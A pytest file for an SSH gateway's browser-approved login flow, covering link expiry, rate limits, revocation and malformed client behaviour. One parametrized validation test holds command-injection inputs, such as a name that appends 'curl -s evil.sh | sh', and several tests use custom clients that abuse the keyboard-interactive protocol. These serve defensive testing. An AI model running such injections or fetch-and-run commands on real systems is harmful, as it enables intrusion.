"""Plain ssh without token or key: the link that it shows, who may use it, and what ssh does then."""

import asyncio
import base64
import hashlib
import re
from dataclasses import dataclass, replace
from typing import Any

import asyncpg
import asyncssh
import pytest
from asyncssh.auth import MSG_USERAUTH_INFO_RESPONSE
from asyncssh.packet import String, UInt32
from sqlalchemy import select, text
from sqlmodel import col

from access.context import Access
from access.errors import Refused
from access.grants import grants
from access.identity import acts
from access.identity.proof import Unproven
from access.identity.ssh import logins, places
from proxy.ssh.listener import SshListener
from proxy.ssh.login.answers import UNASKED
from storage.locks import Lock, take
from storage.model import LoginState, SshLogin
from support.access import World
from support.identity.touching import owner, signed_in
from support.proxy import Grants
from support.ssh import Audited, Client, MakeClient, Sessions, until

PAGES = "https://gate.example.com"


@pytest.fixture
async def access(access: Access) -> Access:
    return replace(access, pages=PAGES)


@dataclass
class Waiting:
    """One ssh that shows its link and waits."""

    process: asyncio.subprocess.Process
    said: str

    @property
    def secret(self) -> bytes:
        [word] = re.findall(rf"{PAGES}/let-in/(\S+)", self.said)
        return base64.urlsafe_b64decode(word + "=")

    @property
    def number(self) -> str:
        [number] = re.findall(r"type the number there: (\d{4})", self.said)
        return number

    async def end(self) -> tuple[int | None, bytes, str]:
        out, err = await self.process.communicate(b"")
        return self.process.returncode, out, err.decode()


async def waiting(ssh: Client, *command: str) -> Waiting:
    ssh.token = ""
    ssh.options = ["PreferredAuthentications=keyboard-interactive"]
    process = await ssh.start(ssh.command(ssh.destination, *(command or ("echo in",))))
    assert process.stderr is not None
    said = ""
    async with asyncio.timeout(20):
        while "waiting for ten minutes" not in said:
            line = (await process.stderr.readline()).decode()
            assert line, said
            said += line
    return Waiting(process, said)


async def test_ssh_goes_on_once_its_person_says_so(
    client: MakeClient, world: World, sessions: Sessions, audited: Audited
) -> None:
    ssh = await client()
    shown = await waiting(ssh)
    assert "let this terminal in as deploy@web-1, from 127.0.0.1" in shown.said
    alice = await signed_in(world, "alice")
    async with world.database.transaction() as transaction:
        login = await logins.look(transaction, shown.secret, alice.session.created_at)
    assert (login.number, login.software.startswith("OpenSSH")) == (shown.number, True)
    await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)
    status, out, said = await shown.end()
    assert (status, out, "gatepass: Let in as alice.\n" in said.replace("\r", "")) == (0, b"in\n", True)
    [session] = await sessions()
    [row] = await world.all(SshLogin)
    assert session.credential == {"kind": "browser", "login": str(row.id), "id": row.credential}
    assert row.state is LoginState.USED
    [allowed] = await audited("web:ssh_login:allow")
    assert (allowed["actor"], allowed["outcome"], allowed["detail"]["client"]) == ("human:alice", "success", row.client)
    # The link opens nothing more.
    with pytest.raises(Refused, match="over, or it was used"):
        await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)


async def test_not_me_refuses_it_and_counts(
    client: MakeClient, world: World, audited: Audited, sessions: Sessions
) -> None:
    shown = await waiting(await client())
    await logins.refuse(world.access, shown.secret, await signed_in(world, "alice"))
    status, _, said = await shown.end()
    assert (status, "said that it was not them" in said) == (255, True)
    [refused] = await audited("proxy:session:refuse")
    assert "not them" in refused["detail"]["why"]
    assert await audited("web:ssh_login:refuse")
    assert await sessions() == []


async def test_a_person_without_access_lets_nobody_in(client: MakeClient, world: World, audited: Audited) -> None:
    shown = await waiting(await client())
    bob, alice = await signed_in(world, "bob"), await signed_in(world, "alice")
    with pytest.raises(Refused, match="no open access to deploy@web-1"):
        await logins.allow(world.access, shown.secret, bob, typed=shown.number, touch=None)
    [denied] = await world.events("web:ssh_login:allow")
    assert (denied["actor"], denied["outcome"]) == ("human:bob", "denied")
    # It waits on for whoever may.
    await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)
    assert (await shown.end())[0] == 0


async def test_of_two_who_open_it_one_decides(client: MakeClient, world: World) -> None:
    shown = await waiting(await client())
    alice = await signed_in(world, "alice")
    done = await asyncio.gather(
        *(logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None) for _ in range(4)),
        logins.refuse(world.access, shown.secret, alice),
        return_exceptions=True,
    )
    assert sum(isinstance(each, SshLogin) for each in done) == 1
    await shown.end()


async def test_two_connections_have_two_links(client: MakeClient, world: World, sessions: Sessions) -> None:
    ssh = await client()
    first, second = await waiting(ssh, "echo first"), await waiting(ssh, "echo second")
    assert first.secret != second.secret
    alice = await signed_in(world, "alice")
    await logins.allow(world.access, second.secret, alice, typed=second.number, touch=None)
    assert (await second.end())[:2] == (0, b"second\n")
    assert first.process.returncode is None
    await logins.refuse(world.access, first.secret, alice)
    assert (await first.end())[0] == 255
    assert len(await sessions()) == 1


async def test_a_connection_that_is_gone_is_let_in_by_nobody(client: MakeClient, world: World) -> None:
    shown = await waiting(await client())
    shown.process.kill()
    await shown.end()

    async def over() -> bool:
        return [each.state for each in await world.all(SshLogin)] == [LoginState.OVER]

    await until(over)
    with pytest.raises(Refused, match="over, or it was used"):
        await logins.allow(world.access, shown.secret, await signed_in(world, "alice"), typed=shown.number, touch=None)


@pytest.mark.parametrize("typed", ["", "0", "not a number"])
async def test_the_number_is_typed(client: MakeClient, world: World, typed: str) -> None:
    shown = await waiting(await client())
    alice = await signed_in(world, "alice")
    with pytest.raises(Refused, match="not the number"):
        await logins.allow(world.access, shown.secret, alice, typed=typed, touch=None)
    await logins.allow(world.access, shown.secret, alice, typed=f" {shown.number} ", touch=None)
    assert (await shown.end())[0] == 0


async def test_three_wrong_numbers_end_it(client: MakeClient, world: World) -> None:
    shown = await waiting(await client())
    alice, wrong = await signed_in(world, "alice"), f"{(int(shown.number) + 1) % 10_000:04}"
    for _ in range(logins.MAX_MISSES):
        with pytest.raises(Refused, match="not the number"):
            await logins.allow(world.access, shown.secret, alice, typed=wrong, touch=None)
    with pytest.raises(Refused, match="over"):
        await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)
    assert (await shown.end())[0] == 255


async def test_a_link_is_good_for_ten_minutes(client: MakeClient, world: World, superuser: asyncpg.Connection) -> None:
    shown = await waiting(await client())
    await superuser.execute("UPDATE ssh_login SET expires_at = now()")
    status, _, said = await shown.end()
    assert (status, "within its ten minutes" in said) == (255, True)
    with pytest.raises(Refused, match="over"):
        await logins.allow(world.access, shown.secret, await signed_in(world, "alice"), typed=shown.number, touch=None)


async def test_few_wait_at_once(client: MakeClient, world: World, audited: Audited) -> None:
    ssh = await client()
    shown = [await waiting(ssh) for _ in range(places.MAX_PER_SOURCE)]
    done = await ssh.run("echo in")
    assert (done.status, "logins from your address wait" in done.stderr) == (255, True)
    [refused] = await audited("proxy:session:refuse")
    assert (refused["resource"], refused["detail"]["why"]) == (
        ssh.door,
        "4 logins from your address wait for a browser. Finish those, or use a token.",
    )
    alice = await signed_in(world, "alice")
    for each in shown:
        await logins.refuse(world.access, each.secret, alice)
        await each.end()


async def test_links_of_one_source_are_counted(world: World, superuser: asyncpg.Connection) -> None:
    async def offered() -> logins.Offered:
        made = await logins.offer(
            world.access, "deploy@web-1", client="203.0.113.9:1", source="203.0.113.9", software=""
        )
        await logins.gone(world.access, made.id)
        return made

    for _ in range(logins.MAX_LINKS):
        await offered()
    with pytest.raises(Refused, match="many links for your address"):
        await offered()
    await superuser.execute("UPDATE ssh_login SET created_at = created_at - interval '10 minutes'")
    await offered()


@pytest.mark.parametrize(
    "door",
    [
        "deploy@web-1 && curl -s evil.sh | sh #",
        "$(id)@web-1",
        "deploy@web-1\n",
        "Deploy@web-1",
        "deploy@\u202eweb-1",
        "deploy@web-1@web-2",
        "deploy@" + "a" * 64,
        "deploy@",
        "deploy",
    ],
)
async def test_what_could_be_no_name_of_the_policy_gets_no_link(world: World, door: str) -> None:
    with pytest.raises(Refused, match="must be role@resource"):
        await logins.offer(world.access, door, client="203.0.113.9:1", source="203.0.113.9", software="")
    assert await world.all(SshLogin) == []


async def test_who_gets_no_link_is_denied_on_record(client: MakeClient, audited: Audited) -> None:
    ssh = await client()
    ssh.door, ssh.token, ssh.options = "Deploy@web-1", "", ["PreferredAuthentications=keyboard-interactive"]
    done = await ssh.run("echo in")
    assert (done.status, "must be role@resource" in done.stderr, "let-in" in done.stderr) == (255, True, False)
    assert len(await audited("proxy:session:refuse")) == 1


async def offered_to(world: World, source: str) -> logins.Offered:
    return await logins.offer(world.access, "deploy@web-1", client=f"{source}:1", source=source, software="")


async def test_a_crowd_gives_up_a_place_and_is_told(client: MakeClient, world: World, audited: Audited) -> None:
    """The connection that waited longest of the network that has most; whoever comes from elsewhere gets in."""
    shown = await waiting(await client())
    for number in range(3):
        await offered_to(world, "127.0.0.1" if number else "127.0.0.2")
    for number in range(places.MAX_IN_ALL - 4):
        await offered_to(world, f"2001:db8:{number // 3}:{number % 3}::/64")
    made = await offered_to(world, "203.0.113.9")
    status, _, said = await shown.end()
    assert (status, "gave up its place. Start ssh again, or use a token." in said) == (255, True)
    [refused] = await audited("proxy:session:refuse")
    assert "gave up its place" in refused["detail"]["why"]
    states = {each.id: each.state for each in await world.all(SshLogin)}
    assert states[made.id] is LoginState.WAITING
    assert list(states.values()).count(LoginState.WAITING) == places.MAX_IN_ALL
    with pytest.raises(Refused, match="over"):
        await logins.allow(world.access, shown.secret, await signed_in(world, "alice"), typed=shown.number, touch=None)


async def test_one_network_takes_a_share_alone(world: World) -> None:
    for number in range(places.MAX_PER_NETWORK):
        await offered_to(world, f"2001:db8:1:{number}::/64")
    with pytest.raises(Refused, match="Many logins wait for a browser at the moment"):
        await offered_to(world, "2001:db8:1:ffff::/64")
    await offered_to(world, "2001:db8:2::/64")
    await offered_to(world, "198.51.100.7")


async def test_one_person_lets_few_in_that_do_not_go_on(client: MakeClient, world: World) -> None:
    await client()
    alice = await signed_in(world, "alice")

    async def let_in(number: int) -> None:
        made = await offered_to(world, f"192.0.2.{number}")
        await logins.allow(world.access, made.secret, alice, typed=made.number, touch=None)

    for number in range(logins.MAX_PER_PERSON):
        await let_in(number)
    with pytest.raises(Refused, match="4 logins that you let in have not gone on yet"):
        await let_in(100)


async def test_a_revoked_access_is_not_let_in_in_the_end(client: MakeClient, world: World) -> None:
    shown = await waiting(await client())
    alice = await signed_in(world, "alice")
    async with world.database.transaction() as transaction:
        [grant] = await grants.of(transaction, world["alice"])
    await grants.revoke(world.access, grant.id, world["alice"])
    with pytest.raises(Refused, match="no open access"):
        await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)
    await logins.refuse(world.access, shown.secret, alice)
    await shown.end()


async def test_a_touch_is_for_this_connection(
    client: MakeClient, world: World, policy: dict[str, Any], sessions: Sessions
) -> None:
    ssh, alice = await client(), await owner(world, "alice")
    policy["providers"] = {"corp": {"issuer": "https://login.example.com", "client_id": "gatepass"}}
    policy["policy"][0]["requires"] = {"sign_in": "1h", "present": True}
    await world.write(policy)
    first, second = await waiting(ssh), await waiting(ssh)
    with pytest.raises(Unproven):
        await logins.allow(world.access, first.secret, alice.me, typed=first.number, touch=None)
    async with world.database.transaction() as transaction:
        found = {
            row.secret_hash: row.id for row in (await transaction.scalars(select(SshLogin).order_by(col(SshLogin.id))))
        }
    ids = [found[hash_of(each.secret)] for each in (first, second)]
    touch = await alice.touch(acts.let_in(ids[0]))
    with pytest.raises(Unproven, match="something else"):
        await logins.allow(world.access, second.secret, alice.me, typed=second.number, touch=touch)
    touch = await alice.touch(acts.let_in(ids[0]))
    await logins.allow(world.access, first.secret, alice.me, typed=first.number, touch=touch)
    assert (await first.end())[:2] == (0, b"in\n")
    [session] = await sessions()
    assert session.proof["touch"]["name"] == "Blue key"
    await logins.refuse(world.access, second.secret, alice.me)
    await second.end()


def hash_of(secret: bytes) -> bytes:
    return hashlib.sha256(secret).digest()


async def test_a_token_at_the_prompt_is_a_token(client: MakeClient, world: World, sessions: Sessions) -> None:
    ssh = await client()
    ssh.options = ["PreferredAuthentications=keyboard-interactive"]
    assert (await ssh.run("echo in")).stdout == b"in\n"
    assert (await sessions())[0].credential["kind"] == "token"
    assert await world.all(SshLogin) == []


async def test_programs_that_ask_nobody_fail_as_ever(client: MakeClient, world: World) -> None:
    ssh = await client()
    done = await ssh.run("echo in", flags=["-oBatchMode=yes"])
    assert (done.status, "Permission denied" in done.stderr) == (255, True)
    assert await world.all(SshLogin) == []


async def test_answers_out_of_turn_let_nobody_in(
    client: MakeClient, world: World, listener: SshListener, granted: Grants
) -> None:
    """A client that answers a question that it was not asked, and one that answers with more than it was asked."""
    ssh = await client()

    class Eager(asyncssh.SSHClient):
        def kbdint_auth_requested(self) -> str:
            return ""

        def kbdint_challenge_received(self, name: str, instructions: str, lang: str, prompts: Any) -> list[str]:
            return ["", ""]

    with pytest.raises((asyncssh.PermissionDenied, asyncssh.ProtocolError)):
        await asyncssh.connect(
            "127.0.0.1",
            ssh.port,
            username=ssh.door,
            known_hosts=None,
            config=None,
            client_keys=None,
            preferred_auth="keyboard-interactive",
            client_factory=Eager,
        )
    assert await world.all(SshLogin) == []


class Talkative(asyncssh.SSHClient):
    """Answers one question, which may be asked with no prompt, so many times."""

    def __init__(self, answers: list[str], times: int, *, at: int = 1) -> None:
        self._answers = answers
        self._times = times
        self._at = at
        self._asked = 0

    def connection_made(self, conn: asyncssh.SSHClientConnection) -> None:
        self._conn: Any = conn

    def kbdint_auth_requested(self) -> str:
        return ""

    def kbdint_challenge_received(self, name: str, instructions: str, lang: str, prompts: Any) -> list[str]:
        self._asked += 1
        if self._asked < self._at:
            return [""]
        for _ in range(self._times - 1):
            parts = [String(each) for each in self._answers]
            self._conn.send_packet(MSG_USERAUTH_INFO_RESPONSE, UInt32(len(parts)), *parts)
        return self._answers

    async def log_in(self, ssh: Client) -> None:
        await asyncssh.connect(
            "127.0.0.1",
            ssh.port,
            username=ssh.door,
            known_hosts=None,
            config=None,
            client_keys=None,
            preferred_auth="keyboard-interactive",
            client_factory=lambda: self,
        )


#: Guesses, a good token among bad company, and the answer to the question without a prompt that a link comes with.
@pytest.mark.parametrize(("answers", "times", "at"), [(["guess"], 21, 1), (["TOKEN"], 2, 1), ([], 2, 2)])
async def test_one_answer_to_each_question(
    client: MakeClient, world: World, audited: Audited, sessions: Sessions, answers: list[str], times: int, at: int
) -> None:
    ssh = await client()
    said = [ssh.token if each == "TOKEN" else each for each in answers]
    with pytest.raises(asyncssh.ProtocolError, match="An answer came to no question"):
        await Talkative(said, times, at=at).log_in(ssh)
    [refused] = await until(lambda: audited("proxy:session:refuse"))
    assert (refused["resource"], refused["detail"]["why"]) == (ssh.door, UNASKED)
    assert await sessions() == []
    assert all(each.state is not LoginState.USED for each in await world.all(SshLogin))


async def test_a_role_that_takes_no_browser_says_so(client: MakeClient, world: World, policy: dict[str, Any]) -> None:
    ssh = await client()
    policy["resources"]["web-1"]["roles"]["deploy"]["accepts"] = ["token", "key"]
    await world.write(policy)
    shown = await waiting(ssh)
    alice = await signed_in(world, "alice")
    with pytest.raises(Refused, match="lets nobody in by a browser"):
        await logins.allow(world.access, shown.secret, alice, typed=shown.number, touch=None)
    await logins.refuse(world.access, shown.secret, alice)
    await shown.end()


class Impatient(asyncssh.SSHClient):
    """Presses Enter."""

    def connection_made(self, conn: asyncssh.SSHClientConnection) -> None:
        self.conn = conn

    def kbdint_auth_requested(self) -> str:
        return ""

    def kbdint_challenge_received(self, name: str, instructions: str, lang: str, prompts: Any) -> list[str]:
        return [""]

    async def log_in(self, ssh: Client) -> None:
        await asyncssh.connect(
            "127.0.0.1",
            ssh.port,
            username=ssh.door,
            known_hosts=None,
            config=None,
            client_keys=None,
            preferred_auth="keyboard-interactive",
            client_factory=lambda: self,
        )


async def test_a_client_that_leaves_while_its_link_is_made_takes_no_place(client: MakeClient, world: World) -> None:
    ssh, impatient = await client(), Impatient()

    async def asks(database: Any) -> bool:
        found = await database.execute(text("SELECT 1 FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"))
        return found.first() is not None

    async with world.database.transaction() as transaction:
        await take(transaction, Lock.SSH_LOGIN)
        logging_in = asyncio.ensure_future(impatient.log_in(ssh))
        await until(lambda: asks(transaction))
        impatient.conn.abort()
        await asyncio.wait({logging_in})
        logging_in.exception()

    async def over() -> bool:
        return [each.state for each in await world.all(SshLogin)] == [LoginState.OVER]

    await until(over)
